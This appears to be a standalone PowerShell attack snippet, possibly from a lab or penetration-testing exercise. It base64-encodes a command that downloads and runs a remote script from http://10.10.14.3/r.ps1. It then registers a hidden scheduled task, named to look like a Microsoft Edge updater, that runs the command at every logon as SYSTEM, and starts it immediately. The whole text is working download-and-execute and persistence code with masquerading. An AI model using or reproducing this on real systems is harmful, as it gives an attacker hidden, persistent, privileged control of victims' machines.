$cmd = 'IEX (New-Object Net.WebClient).DownloadString("http://10.10.14.3/r.ps1")'
$enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
schtasks.exe /create /tn "MicrosoftEdgeUpdateTaskUA" /tr "powershell.exe -w hidden -enc $enc" /sc onlogon /ru System /f
schtasks.exe /run /tn "MicrosoftEdgeUpdateTaskUA"
